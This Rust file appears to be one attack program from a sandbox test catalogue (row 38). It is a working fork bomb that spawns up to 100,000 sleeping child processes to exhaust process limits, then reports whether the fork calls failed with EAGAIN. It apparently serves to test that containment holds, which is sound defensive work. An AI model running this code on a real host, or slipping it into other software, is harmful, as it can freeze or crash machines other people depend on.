//! A fork bomb.
//! Catalogue row: 38 (`research/process-tier.md` section 4).
use stockade_attacks::*;

fn main() {
    let mut failures = 0u64;
    for _ in 0..100_000 {
        match fork() {
            Ok(0) => loop {
                std::thread::sleep(std::time::Duration::from_secs(60));
            },
            Ok(_) => {}
            Err(_) => {
                failures += 1;
                if failures > 1000 {
                    break;
                }
            }
        }
    }
    println!("ATTEMPT fork_bomb {}", if failures > 0 { "EAGAIN" } else { "ok" });
}
